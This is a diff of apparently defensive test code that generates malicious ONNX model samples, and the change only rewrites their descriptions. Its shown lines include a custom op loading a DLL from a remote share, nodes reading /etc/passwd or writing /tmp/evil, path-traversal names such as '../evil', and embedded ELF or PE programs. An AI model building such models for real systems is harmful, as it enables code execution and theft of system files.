@@ -95,7 +95,7 @@ file_attack("windows-library", "A node that names a DLL on a share.", "CustomOp"
     dll="\\\\192.0.2.1\\share\\evil.dll")
 file_attack("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF,
     notes="")
-file_attack("file-reader", "ReadFile of com.example reads any file.", "ReadFile", "com.example",
+file_attack("file-reader", "ReadFile of com.example reads /etc/passwd.", "ReadFile", "com.example",
     filename="/etc/passwd")
 file_attack("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
 file_attack("wordpiece", "WordpieceTokenizer with a vocabulary path that goes up.", "WordpieceTokenizer",
@@ -148,8 +148,8 @@ context_attack("folder", "embed_mode 0 with the name of an unchecked binary in t
     ep_cache_context="context.bin", ep_sdk_version="1.0")
 context_attack("embedded-elf", "embed_mode 1 with an ELF program.", embed_mode=1, ep_cache_context=ELF)
 context_attack("embedded-pe", "embed_mode 1 with a Windows program.", embed_mode=1, ep_cache_context=PE)
-context_attack("partition", "main_context 0 and another partition.", main_context=0, embed_mode=0, ep_cache_context="",
-    partition_name="../evil")
+context_attack("partition", "main_context 0 and the partition name ../evil.", main_context=0, embed_mode=0,
+    ep_cache_context="", partition_name="../evil")
 attack("in-function", "EPContext in a function.", network([node("Block", ["x"], ["y"], domain="local")], opsets=OPSETS,
     functions=[function("Block", [node("EPContext", ["a"], ["b"], domain="com.microsoft", embed_mode=0,
     ep_cache_context="../evil.bin")], ["a"], ["b"], opsets=MICROSOFT)]))
